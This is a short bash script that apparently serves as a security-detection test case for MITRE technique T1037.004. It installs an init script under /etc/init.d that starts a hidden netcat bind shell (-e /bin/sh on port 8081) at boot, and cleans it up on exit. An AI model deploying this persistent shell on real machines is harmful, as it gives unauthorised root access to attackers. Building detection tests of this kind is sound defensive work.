#!/usr/bin/env bash
# tactic: persistence
# technique: T1037.004 Boot or Logon Initialization Scripts: RC Scripts
# behaviour: an admin installs a SysV init script under /etc/init.d with install(1), to start a listener at boot
# as: root
# expect: persistence
set -u
trap 'rm -f "/etc/init.d/sntl-eval-$SNTL_ID"' EXIT
printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netcheck\n### END INIT INFO\nnohup /var/tmp/.nc -l -p 8081 -e /bin/sh >/dev/null 2>&1 &\n' > "$SNTL_TMP/netcheck"
install -m 755 "$SNTL_TMP/netcheck" "/etc/init.d/sntl-eval-$SNTL_ID"
